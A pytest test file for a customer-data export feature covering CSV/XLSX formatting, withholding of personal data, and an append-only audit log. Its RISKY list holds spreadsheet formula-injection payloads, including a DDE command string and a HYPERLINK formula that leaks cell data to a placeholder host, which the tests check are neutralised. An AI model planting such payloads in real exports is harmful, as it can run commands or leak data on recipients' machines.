from __future__ import annotations

import csv
import io
import subprocess
import sys
import zipfile
from collections.abc import Callable
from pathlib import Path
from typing import Any
from xml.etree import ElementTree as ET

import pytest

from smartcom_kernel.audit.log import AuditLog
from smartcom_kernel.core.clock import FixedClock
from smartcom_kernel.core.errors import DataError, SpecError, UnknownName
from smartcom_kernel.core.person import user
from smartcom_kernel.core.settings import Settings
from smartcom_kernel.lake.contracts import CUSTOMERS
from smartcom_kernel.lake.personal import PERSONAL
from smartcom_kernel.segments import spreadsheet
from smartcom_kernel.segments.export import ExportReport, export
from smartcom_kernel.segments.spec import Segment
from smartcom_kernel.segments.workspace import Workspace
from tests.shop import Rows, Shop

EVERYBODY = Segment.parse("everybody", {"kind": "attribute", "name": "customer_id", "is": {"exists": True}})
ANNA: Rows = [{"customer_id": "anna", "first_name": "Анна", "email": "a@shop.ru", "city": "Казань"}]
RECEIPTS: Rows = [
    {"receipt_id": "1", "customer_id": "anna", "issued_at": "2017-12-01T22:30:00Z", "total": "100.10"},
    {"receipt_id": "2", "customer_id": "anna", "issued_at": "2017-12-02T10:00:00Z", "total": "-400.00"},
]
SHEET = "{http://schemas.openxmlformats.org/spreadsheetml/2006/main}"
Exported = Callable[..., ExportReport]


@pytest.fixture
def exported(shop: Shop, tmp_path: Path) -> Exported:
    """Exports everybody of a shop; the user of this process may take personal data unless told otherwise."""

    def write(name: str, customers: Rows, *, may: bool = True, spec: Any = EVERYBODY, **more: Any) -> ExportReport:
        tables = shop.fill(customers=customers, receipts=RECEIPTS, zone="Europe/Moscow")
        settings = Settings.model_validate({"exports": {"personal_data_by": [user()] if may else ["boss"]}})
        workspace = Workspace(tmp_path, shop.state, lambda *_: tables, settings, FixedClock("2018-01-10"))
        return export(spec, tmp_path / name, tables, workspace, **more)

    return write


def cells(report: ExportReport) -> list[list[str]]:
    return list(csv.reader(io.StringIO(report.path.read_bytes().decode("utf-8-sig"), newline="")))


def sheet(report: ExportReport) -> list[list[tuple[str, str]]]:
    """Type and value of every cell that is there: `n` a number, `inlineStr` a text, `b` yes or no."""
    with zipfile.ZipFile(report.path) as book:
        rows = ET.fromstring(book.read("xl/worksheets/sheet1.xml")).iter(f"{SHEET}row")
        return [[(c.get("t", "n"), "".join(c.itertext())) for c in row] for row in rows]


def log(shop: Shop) -> AuditLog:
    return AuditLog.read(shop.state, zone="Europe/Moscow")


COLUMNS = ("customer_id", "first_name", "city", "receipts", "revenue", "last_receipt_at")


def test_a_csv_has_a_head_exact_numbers_and_moments_on_the_clock_of_the_shop(exported: Exported) -> None:
    report = exported("a.csv", ANNA, columns=COLUMNS)
    assert cells(report) == [list(COLUMNS), ["anna", "Анна", "Казань", "2", "-299.90", "2017-12-02 13:00:00"]]
    assert report.path.read_bytes().startswith(b"\xef\xbb\xbf")
    assert report.path.stat().st_mode & 0o777 == 0o600


def test_a_sheet_holds_texts_numbers_and_moments_as_what_they_are(exported: Exported) -> None:
    report = exported("a.XLSX", ANNA, columns=COLUMNS)
    head, row = sheet(report)
    assert head == [("inlineStr", name) for name in COLUMNS]
    assert row[:3] == [("inlineStr", "anna"), ("inlineStr", "Анна"), ("inlineStr", "Казань")]
    assert row[3:5] == [("n", "2"), ("n", "-299.90")]
    kind, days = row[5]
    assert kind == "n"
    assert float(days) == pytest.approx(43071 + 13 / 24)


RISKY = [
    "=1+1", "+cmd|' /C calc'!A0", "-2+3", "@SUM(A1)", "\t=1", "\rx", "\nx", "＝1+1", "＋1", "－1", "＠x", "  =1",
    "\u00a0=1", "\u200b=1", "\ufeff@x", "+7 999", "-", "=", '=HYPERLINK("http://x?"&A1,"go")',
]  # fmt: skip
HARMLESS = ["Анна", "a=b", "1-2", "+79991234567", "-5", "-5.50", "'=1", 'a,b\n"c"', "Ω≈ç √∫", "x" * 40_000, "١٢٣", ""]


@pytest.mark.parametrize("text", RISKY)
def test_a_text_that_may_be_a_formula_gets_an_apostrophe_in_csv_and_is_text_in_a_sheet(
    exported: Exported, text: str
) -> None:
    people = [{"customer_id": "a", "city": text}]
    assert cells(exported("a.csv", people, columns=["city"]))[1] == [f"'{text}"]
    [kind, value] = sheet(exported("a.xlsx", people, columns=["city"]))[1][0]
    assert (kind, value.replace("_x000D_", "\r")) == ("inlineStr", text)


def test_other_texts_stay_as_they_are_in_csv(exported: Exported) -> None:
    people = [{"customer_id": f"c{n:02}", "city": text} for n, text in enumerate(HARMLESS)]
    assert [row[1] for row in cells(exported("a.csv", people, columns=["customer_id", "city"]))[1:]] == HARMLESS


def test_the_id_of_a_customer_is_made_harmless_too(exported: Exported) -> None:
    report = exported("a.csv", [{"customer_id": "=cmd()"}], columns=["customer_id"])
    assert cells(report)[1] == ["'=cmd()"]


def test_empty_values_are_empty_cells(exported: Exported) -> None:
    people = [{"customer_id": "zoe"}]
    assert cells(exported("a.csv", people, columns=["customer_id", "city", "average_receipt"]))[1] == ["zoe", "", ""]
    assert sheet(exported("a.xlsx", people, columns=["customer_id", "city", "average_receipt"]))[1] == [
        ("inlineStr", "zoe")
    ]


def test_personal_data_is_left_out_of_what_those_export_who_may_not_take_it(exported: Exported) -> None:
    report = exported("a.csv", ANNA, may=False)
    assert report.left_out == ("last_name", "first_name", "email", "phone")
    assert cells(report)[0] == ["customer_id", "city", "receipts", "revenue", "average_receipt", "last_receipt_at"]
    assert "Анна" not in report.path.read_text(encoding="utf-8")
    assert report.describe("en") == (
        f"1 customer with 6 columns exported to {report.path}; personal data left out "
        f"(last_name, first_name, email, phone): {user()} is not in [exports] personal_data_by"
    )
    assert "личные данные не выгружены (last_name, first_name, email, phone)" in report.describe("ru")
    with pytest.raises(SpecError, match="all are personal data: email"):
        exported("b.csv", ANNA, may=False, columns=["email"])


def test_of_every_column_of_a_customer_it_is_decided_whether_it_is_personal() -> None:
    assert {column.name for column in CUSTOMERS.columns} - PERSONAL == {
        "customer_id", "gender", "registered_at", "country", "region", "city", "time_zone", "language", "source",
        "brand", "email_quality", "phone_quality", "phone_is_landline", "email_consent", "sms_consent", "push_consent",
        "messenger_consent", "call_consent",
    }  # fmt: skip
    assert {column.name for column in CUSTOMERS.columns} >= PERSONAL


def test_each_export_leaves_an_entry_in_the_audit_log(exported: Exported, shop: Shop) -> None:
    exported("a.csv", ANNA, columns=["customer_id", "email"])
    report = exported("b.xlsx", ANNA, may=False, columns=["email", "city"], spec={"kind": "tag", "name": "none"})
    last, first = log(shop).entries[:2]
    assert (first.who, first.segment, first.customers, first.columns) == (
        user(),
        "everybody",
        1,
        ("customer_id", "email"),
    )
    assert (first.personal, last.personal) == (True, False)
    assert (last.segment, last.customers, last.columns, last.path) == ("", 0, ("city",), str(report.path))
    assert last.definition == "condition:\n  kind: tag\n  name: none\n"
    assert log(shop).rows("ru")[1][:4] == ["10 января 2018, 03:00", user(), "выгрузка", "–"]
    assert log(shop).table["path"].tolist()[0] == str(report.path)


def test_the_audit_log_is_only_added_to(exported: Exported, shop: Shop) -> None:
    exported("a.csv", ANNA)
    for statement in ("DELETE FROM audit", "UPDATE audit SET who = 'nobody'", "TRUNCATE audit"):
        with pytest.raises(Exception, match="only added to"), shop.state.transaction() as connection:
            connection.execute(statement.encode())


def test_what_is_not_in_the_log_has_not_left(
    exported: Exported, shop: Shop, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    (tmp_path / "a.csv").write_text("the old one", encoding="utf-8")
    before = len(log(shop))

    def fails(*_: object) -> None:
        assert (tmp_path / "a.csv").read_text(encoding="utf-8") == "the old one"
        raise ConnectionError

    monkeypatch.setattr("smartcom_kernel.segments.export.audit.record", fails)
    with pytest.raises(ConnectionError):
        exported("a.csv", ANNA)
    assert [path.name for path in tmp_path.iterdir()] == ["a.csv"]
    assert (tmp_path / "a.csv").read_text(encoding="utf-8") == "the old one"
    assert len(log(shop)) == before


def test_more_rows_than_a_sheet_holds_are_refused_before_anything_is_written(
    exported: Exported, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr(spreadsheet, "MOST_ROWS", 2)
    three = [{"customer_id": c} for c in "abc"]
    with pytest.raises(DataError, match=r"holds 2 customers, and there are 3: export to a \.csv file, or split"):
        exported("a.xlsx", three, columns=["customer_id"])
    assert list(tmp_path.iterdir()) == []
    assert len(sheet(exported("a.xlsx", three[:2], columns=["customer_id"]))) == 3
    assert exported("a.csv", three, columns=["customer_id"]).customers == 3


def test_a_text_that_is_too_long_for_a_cell_is_refused(exported: Exported) -> None:
    with pytest.raises(DataError, match=r"holds 32,767 letters, and the text in row 1, column 2 has 32,768"):
        exported("a.xlsx", [{"customer_id": "a", "city": "x" * 32_768}], columns=["customer_id", "city"])


@pytest.mark.parametrize(
    ("name", "columns", "error", "sentence"),
    [
        ("a.txt", ["city"], SpecError, r"'a.txt' must end in \.csv or \.xlsx"),
        ("a.csv", ["citi"], UnknownName, "no column of customers called 'citi'; did you mean 'city'"),
        ("a.csv", [], SpecError, "name at least one column"),
    ],
)
def test_an_export_that_makes_no_sense_is_refused(
    exported: Exported, name: str, columns: list[str], error: type[Exception], sentence: str
) -> None:
    with pytest.raises(error, match=sentence):
        exported(name, ANNA, columns=columns)


def test_rows_come_in_order_and_in_pieces(exported: Exported, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr("smartcom_kernel.segments.export.AT_A_TIME", 1000)
    told: list[float] = []
    people = [{"customer_id": f"c{n:04}"} for n in range(2500)][::-1]
    report = exported("a.csv", people, columns=["customer_id"], progress=lambda _, done: told.append(done))
    assert [row[0] for row in cells(report)[1:]] == [f"c{n:04}" for n in range(2500)]
    assert told[-1] == 1


def test_the_name_of_the_user_is_that_of_the_process_whatever_the_environment_says() -> None:
    said = subprocess.run(
        [sys.executable, "-c", "from smartcom_kernel.core.person import user; print(user())"],
        env={"USER": "boss", "LOGNAME": "boss"}, capture_output=True, text=True, check=True,
    )  # fmt: skip
    assert said.stdout.strip() == user()
